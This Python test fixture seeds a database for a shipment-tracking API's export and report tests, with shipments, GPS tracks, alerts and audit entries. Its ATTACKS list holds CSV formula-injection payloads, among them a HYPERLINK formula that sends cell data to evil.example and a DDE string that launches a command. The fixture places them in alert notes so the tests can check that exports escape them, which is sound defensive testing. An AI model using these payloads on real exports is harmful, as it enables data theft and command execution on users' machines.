"""A small world for the exports and the shipment report, made by hand with SQL
(COPY for the big track): two regions, a shipment in each with an itinerary,
milestones, a track and alerts (some with notes that attack a spreadsheet), the
officers' audit entries, and a shipment with many fixes."""

from __future__ import annotations

from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any

import psycopg
from psycopg.types.json import Jsonb

from tests.support import unique_prefix
from tracking_api.auth import mint
from tracking_api.config import ApiSettings

# Mombasa to Nairobi, roughly: [lon, lat].
ROUTE = [[39.66, -4.04], [39.2, -3.6], [38.5, -3.0], [37.6, -2.1], [36.82, -1.29]]
OFFICES = {"D": (39.66, -4.04), "T": (38.5, -3.0), "A": (36.82, -1.29)}
# Cells a spreadsheet would run: each must come out of a CSV export with a leading quote.
ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)"]
BIG_FIXES = 30_000


@dataclass
class World:
    prefix: str
    region_a: str
    region_b: str
    offices: dict[str, str]  # D, T, A -> office code
    start: datetime  # before everything
    end: datetime  # after everything
    s1: int  # region A: itinerary, milestones, track, alerts, audit entries
    s2: int  # region B
    big: int  # region A, BIG_FIXES fixes
    tracker1: str
    seal1: str
    alerts1: list[int] = field(default_factory=list)
    audit_hashes: list[str] = field(default_factory=list)
    fixes1: int = 0


def auth(role: str, region: str | None = None, subject: str | None = None) -> dict[str, str]:
    return {"Authorization": f"Bearer {mint(ApiSettings(), subject or f'test-{role}', role, region)}"}


def _square(lon: float, lat: float, half: float = 0.02) -> dict[str, Any]:
    ring = [[lon - half, lat - half], [lon + half, lat - half], [lon + half, lat + half], [lon - half, lat + half],
            [lon - half, lat - half]]
    return {"type": "Polygon", "coordinates": [ring]}


def _along(t: float) -> tuple[float, float]:
    """The point at fraction ``t`` (0..1) along ROUTE, by vertex index (good enough for a test track)."""
    x = t * (len(ROUTE) - 1)
    i = min(int(x), len(ROUTE) - 2)
    f = x - i
    (a, b), (c, d) = ROUTE[i], ROUTE[i + 1]
    return a + (c - a) * f, b + (d - b) * f


def _shipment(conn: psycopg.Connection[Any], w: World, n: int, route: int, tracker: str, region: str,
              departed: datetime, arrived: datetime, operator: str | None = None) -> int:
    row = conn.execute(
        "INSERT INTO shipments (reference, route_id, tracker_id, office_of_departure, office_of_destination,"
        " deadline, status, departed_at, arrived_at, vehicle, operator, created_at)"
        " VALUES (%s, %s, %s, %s, %s, %s, 'arrived', %s, %s, 'KCB 123A', %s, %s) RETURNING id",
        (f"26{w.prefix.upper()}{n:07d}", route, tracker, w.offices["D"], w.offices["A"], arrived + timedelta(days=1),
         departed, arrived, operator, departed - timedelta(hours=1))).fetchone()
    assert row is not None
    sid = int(row[0])
    conn.execute("INSERT INTO shipment_regions (shipment_id, region_code) VALUES (%s, %s)", (sid, region))
    conn.execute("INSERT INTO shipment_offices (shipment_id, position, role, office_code) VALUES"
                 " (%s, 0, 'departure', %s), (%s, 1, 'transit', %s), (%s, 2, 'destination', %s)",
                 (sid, w.offices["D"], sid, w.offices["T"], sid, w.offices["A"]))
    return sid


def _alert(conn: psycopg.Connection[Any], sid: int, device: str, type_: str, at: datetime, lon: float, lat: float,
           severity: str, status: str, note: str | None) -> int:
    row = conn.execute(
        "INSERT INTO alerts (type, shipment_id, device_id, started_at, ended_at, crossed_at, lat, lon, severity,"
        " status, note, detail) VALUES (%s, %s, %s, %s, %s, %s, %s, %s, %s, %s, %s, %s) RETURNING id",
        (type_, sid, device, at, at + timedelta(minutes=20), at + timedelta(minutes=5), lat, lon, severity, status,
         note, Jsonb({}))).fetchone()
    assert row is not None
    return int(row[0])


def _fixes(conn: psycopg.Connection[Any], device: str, departed: datetime, arrived: datetime, n: int) -> None:
    step = (arrived - departed) / (n + 1)
    with conn.cursor().copy("COPY fixes (device_id, seq, ts, lat, lon, spd, hdg, received_at) FROM STDIN") as copy:
        for i in range(n):
            lon, lat = _along(i / max(n - 1, 1))
            ts = departed + step * (i + 1)
            copy.write_row((device, i + 1, ts, lat, lon, 55.0, 300.0, ts))


def build(database_url: str, big_fixes: int = BIG_FIXES) -> World:
    p = unique_prefix("exp")
    now = datetime.now(UTC).replace(microsecond=0)
    departed, arrived = now - timedelta(hours=30), now - timedelta(hours=2)
    w = World(p, f"{p}-A", f"{p}-B", {k: f"{p[1:].upper()}{k}"[:17] for k in OFFICES},
              departed - timedelta(days=1), now + timedelta(minutes=1), 0, 0, 0, f"{p}-trk1", f"{p}-seal1")
    with psycopg.connect(database_url) as conn:
        for key, (lon, lat) in OFFICES.items():
            conn.execute("INSERT INTO zones (name, kind, office_code, geometry, country)"
                         " VALUES (%s, %s, %s, %s, 'KEN')",
                         (f"{p} office {key}", "border_post" if key == "T" else "office", w.offices[key],
                          Jsonb(_square(lon, lat))))
        route = conn.execute("INSERT INTO routes (name, geometry) VALUES (%s, %s) RETURNING id",
                             (f"{p}-route", Jsonb({"type": "LineString", "coordinates": ROUTE}))).fetchone()
        assert route is not None
        for code in (w.region_a, w.region_b):
            conn.execute("INSERT INTO regions (code, name, geometry) VALUES (%s, %s, %s)",
                         (code, code, Jsonb(_square(38.0, -3.0, 3.0))))
        w.s1 = _shipment(conn, w, 1, route[0], w.tracker1, w.region_a, departed, arrived, operator=ATTACKS[0])
        w.s2 = _shipment(conn, w, 2, route[0], f"{p}-trk2", w.region_b, departed, arrived)
        w.big = _shipment(conn, w, 3, route[0], f"{p}-trk9", w.region_a, departed, arrived)
        w.fixes1 = 240
        _fixes(conn, w.tracker1, departed, arrived, w.fixes1)
        _fixes(conn, f"{p}-trk2", departed, arrived, 20)
        _fixes(conn, f"{p}-trk9", departed, arrived, big_fixes)
        kinds = [("route_deviation", "high", "open"), ("seal_breach", "critical", "resolved"),
                 ("unscheduled_stop", "medium", "acknowledged"), ("transit_overdue", "low", "open")]
        for i, ((type_, severity, status), note) in enumerate(zip(kinds, ATTACKS, strict=True)):
            lon, lat = _along(0.2 + 0.2 * i)
            device = w.seal1 if type_ == "seal_breach" else w.tracker1
            w.alerts1.append(_alert(conn, w.s1, device, type_, departed + timedelta(hours=5 * (i + 1)), lon, lat,
                                    severity, status, note))
        _alert(conn, w.s2, f"{p}-trk2", "route_deviation", departed + timedelta(hours=3), 38.5, -3.0, "high", "open",
               "other region")
        conn.execute("INSERT INTO shipment_seals (shipment_id, seal_id) VALUES (%s, %s)", (w.s1, w.seal1))
        for seq, (event, hours) in enumerate((("armed", 0.1), ("opened", 10.0)), 1):
            at = departed + timedelta(hours=hours)
            conn.execute("INSERT INTO seal_events (device_id, seq, ts, seal_id, event, lat, lon, bat, received_at)"
                         " VALUES (%s, %s, %s, %s, %s, -3.0, 38.5, 87.5, %s)", (w.seal1, seq, at, w.seal1, event, at))
        for kind, key, hours in (("departed", "D", 0.2), ("border_crossed", "T", 14.0), ("arrived", "A", 27.5)):
            lon, lat = OFFICES[key]
            conn.execute("INSERT INTO shipment_events (shipment_id, kind, office_code, country, at, lon, lat, detail)"
                         " VALUES (%s, %s, %s, 'KEN', %s, %s, %s, %s)",
                         (w.s1, kind, w.offices[key], departed + timedelta(hours=hours), lon, lat,
                          Jsonb({"position": {"D": 0, "T": 1, "A": 2}[key]})))
        for action, object_type, object_id in (("alert.acknowledged", "alert", w.alerts1[2]),
                                               ("alert.resolved", "alert", w.alerts1[1]),
                                               ("shipment.arrived", "shipment", w.s1)):
            row = conn.execute("INSERT INTO audit_log (actor, role, action, object_type, object_id, detail)"
                               " VALUES (%s, 'officer', %s, %s, %s, %s) RETURNING encode(hash, 'hex')",
                               (f"officer-{p}", action, object_type, str(object_id),
                                Jsonb({"note": "checked at the post"}))).fetchone()
            assert row is not None
            w.audit_hashes.append(row[0])
    return w
